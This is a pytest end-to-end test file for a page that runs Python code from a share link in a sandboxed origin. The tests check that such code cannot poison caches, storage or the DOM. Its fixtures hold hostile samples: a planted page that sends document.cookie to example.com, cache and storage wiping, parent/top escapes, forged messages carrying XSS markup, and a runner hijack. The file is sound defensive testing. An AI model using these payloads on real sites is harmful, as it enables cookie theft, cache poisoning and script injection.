"""Code from the editor, the prompt or a share link runs in an origin of its own: a hostile link's code,
run, reaches none of the page's caches, storage or DOM, and plants nothing that a later visit is served; the
service worker serves from its caches only the build's own content; and every run ends cleanly, whatever the
code does to its Python."""

import pytest

from harness.page_facts import STORE_NAME
from tests.e2e.inputs import MIXED
from tests.e2e.page import SLOW

from .test_code import EXAMPLE
from .test_offline import visit_until_offline_ready

# A share link's code that reaches for everything the page's origin holds, from its worker, from a worker
# of its own and by JavaScript; then prints the right answers, so that the run looks as if nothing happened.
HOSTILE = """import js
from pyodide.ffi import to_js

PLANT = "<!doctype html><title>PLANTED</title><script>fetch('https://example.com/?' + document.cookie)</script>"
reached = []


def attempt(name, act):
    try:
        act()
        reached.append(name)
    except Exception:
        pass


attempt("caches", lambda: js.caches.open("STORE-precache-v2").then(
    lambda cache: cache.put("index.html", js.Response.new(PLANT))))
attempt("indexedDB", lambda: js.indexedDB.deleteDatabase("STORE"))
attempt("localStorage", lambda: js.localStorage.clear())
attempt("document", lambda: js.document.body)
attempt("eval", lambda: js.eval("parent.document.body.innerHTML = 'PLANTED'"))
attempt("eval-top", lambda: js.eval("top.location = 'https://example.com/'"))
attempt("serviceWorker", lambda: js.navigator.serviceWorker.register("sw.js"))
script = "caches.open('STORE-precache-v2'); indexedDB.deleteDatabase('STORE'); fetch('https://example.com/')"
js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([script]))))
js.fetch("https://example.com/?stolen")
js.fetch("/index.html", to_js({"method": "POST", "body": PLANT}))
print("reached:", reached)
print("Part 1:", %d)
print("Part 2:", %d)
""".replace("STORE", STORE_NAME)


def planted(camel):
    """Whether any cache of the origin, or the page on show, holds what the hostile code planted."""
    cached = camel.page.evaluate(
        """async () => { const found = [];
             for (const name of await caches.keys()) {
               const cache = await caches.open(name);
               for (const request of await cache.keys()) {
                 const text = await (await cache.match(request)).clone().text().catch(() => '');
                 if (text.includes('PLANTED')) found.push(request.url);
               } }
             return found; }"""
    )
    return cached or "PLANTED" in camel.page.content()


@pytest.mark.parametrize("how", ["run", "step through"])
def test_a_hostile_links_code_run_reaches_nothing_of_the_page_and_a_reload_is_the_page(online, how):
    """Run, or traced by Step through, which runs the code in the same sandbox."""
    from tests import naive

    camel, _ = online
    visit_until_offline_ready(camel)
    # A stranger makes a link through the page's own Code tab.
    camel.paste(EXAMPLE)
    camel.code_tab()
    totals = tuple(naive.total(naive.rows(EXAMPLE), part) for part in (1, 2))
    camel.set_code(HOSTILE % totals)
    camel.page.click("#code-share")
    camel.page.wait_for_function("document.getElementById('code-share-url').value")
    link = camel.page.input_value("#code-share-url")
    # The visitor has an input of their own, kept; then opens the link, and presses Run.
    camel.page.click("#tab-camel")
    camel.paste(MIXED)
    camel.visit(link)
    camel.page.wait_for_selector("#code-run:not([disabled])")
    assert "in a sandbox of its own: it cannot reach your inputs" in camel.page.inner_text("#code-notice")
    if how == "run":
        camel.run_code()
        assert camel.code_results() == {"1": [str(totals[0]), "right", []], "2": [str(totals[1]), "right", []]}
        assert "reached: []" in camel.page.inner_text("#code-output")
    else:
        camel.step_through()
        camel.page.click("#trace-last")
        assert "reached: []" in camel.page.inner_text("#trace-output")
    assert not planted(camel)
    # A reload, and a visit offline, are the page itself, with the visitor's own input kept.
    for offline in (False, True):
        camel.page.context.set_offline(offline)
        camel.page.reload()
        camel.page.wait_for_selector("html[data-ready]", state="attached", timeout=SLOW)
        assert camel.page.title() != "PLANTED" and not planted(camel)
    camel.page.context.set_offline(False)
    camel.page.click("#tab-camel")
    camel.settle(lambda: camel.page.click("#restore-previous"))
    assert camel.input_text == MIXED
    assert not camel.offsite


def test_the_service_worker_serves_from_its_caches_only_the_builds_own_content(online):
    camel, _ = online
    visit_until_offline_ready(camel)
    camel.type_input(MIXED)
    # Whatever lands in the origin's caches in place of the build's files.
    camel.page.evaluate(
        """async () => { for (const name of await caches.keys()) {
             const cache = await caches.open(name);
             for (const request of await cache.keys()) {
               const path = new URL(request.url).pathname;
               if (path === '/index.html' || path === '/main.py' || path.endsWith('.js'))
                 await cache.put(request, new Response('<title>PLANTED</title>PLANTED',
                   { headers: { 'Content-Type': path.endsWith('.js') ? 'text/javascript' : 'text/html' } }));
             } } }"""
    )
    assert planted(camel)
    camel.page.reload()
    camel.page.wait_for_selector("html[data-ready]", state="attached", timeout=SLOW)
    assert camel.page.title() != "PLANTED" and "PLANTED" not in camel.page.content()
    assert camel.input_text == MIXED


# Code that answers in runner.py's place, every call it might be, with markup and fields of the wrong kinds.
FORGER = """import js
from pyodide.ffi import to_js

MARKUP = "<img src=x id=forged><script id=forged>parent.document.title = 'FORGED'</script>"
for call in range(200):
    for said in ('{"output": "%s", "seconds": 0, "parts": [{"part": 1, "value": "%s"}]}' % (MARKUP, MARKUP),
                 '{"output": "%s", "seconds": 1e400}' % MARKUP, '[' * 100, "x" * 2_000_000):
        js.postMessage(to_js({"kind": "said", "call": call, "said": said}))
    js.postMessage(to_js({"kind": "died", "id": "runner-1", "said": MARKUP}))
"""


def test_a_message_forged_by_the_code_writes_nothing_but_text_and_touches_no_storage_or_address(camel):
    camel.open()
    camel.paste(MIXED)
    camel.code_tab()
    address = camel.page.url
    camel.set_code(FORGER)
    camel.run_code()
    assert camel.page.locator("#forged").count() == 0 and camel.page.title() != "FORGED"
    assert camel.page.url == address and camel.input_text == MIXED
    status = camel.code_status()
    assert status.startswith(("The code's answer could not be read", "Ran in")), status
    assert camel.page.get_attribute("html", "data-busy") is None
    camel.page.reload()
    camel.page.wait_for_selector("html[data-ready]", state="attached")
    assert camel.input_text == MIXED


# Code that takes runner.py's place for the runs after its own, to see their code and input and to answer
# for them; and that leaves a worker of its own spinning once it has printed the right answers.
POISON = """import sys, json
runner = sys.modules["runner"]
def fake(text, code, game, file):
    return json.dumps({"output": "saw " + code[:20], "seconds": 0, "parts": [{"part": 1, "value": "1"}]})
runner.run = fake
import js
js.eval("new Worker(URL.createObjectURL(new Blob(['for (;;) {}'], {type: 'text/javascript'})))")
print("Part 1: 6440")
print("Part 2: 5905")
"""


def test_a_runs_code_leaves_nothing_behind_for_the_next_run(camel):
    """Its worker ends with the run, a worker of its own with it, and the next run has a Python afresh."""
    camel.open().sandboxed()
    camel.code_tab()
    mine = camel.code()
    camel.run_code()
    camel.set_code(POISON)
    worker = camel.sandbox_worker(2)  # the next run's
    with worker.expect_event("close", timeout=SLOW):
        camel.run_code()
    assert camel.code_results() == {"1": ["6440", "right", []], "2": ["5905", "right", []]}
    camel.set_code(mine)
    camel.run_code()
    assert camel.code_results() == {"1": ["6440", "right", []], "2": ["5905", "right", []]}
    assert "saw" not in camel.page.inner_text("#code-output")


def test_each_run_starts_from_the_snapshot_and_draws_random_numbers_of_its_own(camel):
    """Each run's Python starts from one snapshot of Pyodide's memory (so a str hashes alike in each, as the
    snapshot holds the seed of str hashes, where two starts without it differ), and draws its own seed: two
    runs of the same code print two random numbers, as two starts of Python do."""
    camel.open().code_tab()
    # Each number follows a letter, so that the page reads none as an answer.
    camel.set_code("import random\nprint('h%d' % hash('camel'))\nprint('r%d' % random.getrandbits(64))\n")
    drawn = []
    for _ in range(2):
        camel.run_code()
        drawn.append(camel.page.inner_text("#code-output").splitlines())
        assert len(drawn[-1]) == 2, (drawn, camel.code_status())
    assert drawn[0][0] == drawn[1][0] and drawn[0][1] != drawn[1][1], drawn


# Answers in shapes the page does not draw, sent as the worker's own: a line that is no line of the code, an
# empty checklist entry, matches that are not a list.
MALFORMED = """import js, json
from pyodide.ffi import to_js
check = {"verdict": "wrong", "direction": "too low", "matches": [], "checklist": [""]}
SHAPES = [{"error": {"message": "m", "traceback": "t", "line": -1}, "parts": []},
          {"parts": [{"part": 1, "value": "7", "verdict": "wrong", "right": "6440", "check": check}]},
          {"parts": [{"part": 1, "value": "7", "verdict": "wrong", "right": "6440", "check": {**check, "matches": {"length": 1}}}]}]
said = json.dumps({"output": "", "seconds": 0, **SHAPES[SHAPE]})
for call in range(300):
    js.postMessage(to_js({"kind": "said", "call": call, "said": said}))
"""


def test_an_answer_in_a_shape_the_page_does_not_draw_is_said_and_the_run_ends(camel):
    camel.open()
    camel.code_tab()
    for shape in range(3):
        camel.set_code("SHAPE = %d\n%s" % (shape, MALFORMED))
        camel.run_code()
        status = camel.code_status()
        assert status.startswith(("The code's answer could not be read", "Ran in")), (shape, status)
        assert camel.page.is_hidden("#code-stop") and camel.page.get_attribute("html", "data-busy") is None


def test_a_new_run_ends_the_one_under_way_and_each_ending_is_said_in_words(camel):
    camel.open()
    camel.paste(EXAMPLE)
    camel.code_tab()
    camel.set_code("while True:\n    pass\n")
    camel.page.click("#code-run")
    camel.page.wait_for_function("document.getElementById('code-status').textContent.includes('unning on')")
    # Fixed while it runs, and run again: the fixed code runs at once, and the busy mark is cleared.
    camel.set_code("print('Part 1: 6440')\nprint('Part 2: 5905')\nimport sys\nsys.exit(3)\n")
    camel.run_code()
    assert camel.code_results() == {"1": ["6440", "right", []], "2": ["5905", "right", []]}
    assert "The code ended with sys.exit(3)." in camel.code_status()
    assert camel.page.inner_text("#code-output") == "Part 1: 6440\nPart 2: 5905\n"
    # Code that ends its Python is told at once, and no earlier run's results stay on show.
    for ending in ("import os\nos._exit(0)\n", "import js\njs.close()\n"):
        camel.set_code(ending)
        camel.run_code()
        if "close" in ending:  # the worker closes once its call is answered: the next Run finds it gone
            camel.set_code("print(6440)\nprint(5905)\n")
            camel.run_code()
            assert camel.code_results() == {"1": ["6440", "right", []], "2": ["5905", "right", []]}
            continue
        assert camel.code_status().startswith("Python itself ended under the code")
        assert camel.code_results() == {} and camel.page.inner_text("#code-output") == ""
    assert camel.page.get_attribute("html", "data-busy") is None


def test_output_beyond_its_limit_is_cut_in_the_middle_saying_so_and_its_answers_still_read(camel):
    camel.open()
    camel.paste(EXAMPLE)
    camel.code_tab()
    camel.set_code(
        "import sys\nfor i in range(1_000_000):\n    sys.stdout.write('x' * 49 + '\\n')\n"
        "print('Part 1: 6440')\nprint('Part 2: 5905')\n"
    )
    camel.run_code()
    assert camel.code_results() == {"1": ["6440", "right", []], "2": ["5905", "right", []]}
    assert "characters more than are shown (cut in the middle)" in camel.code_status()
    output = camel.page.inner_text("#code-output")
    assert "characters cut here" in output and output.endswith("Part 2: 5905\n")
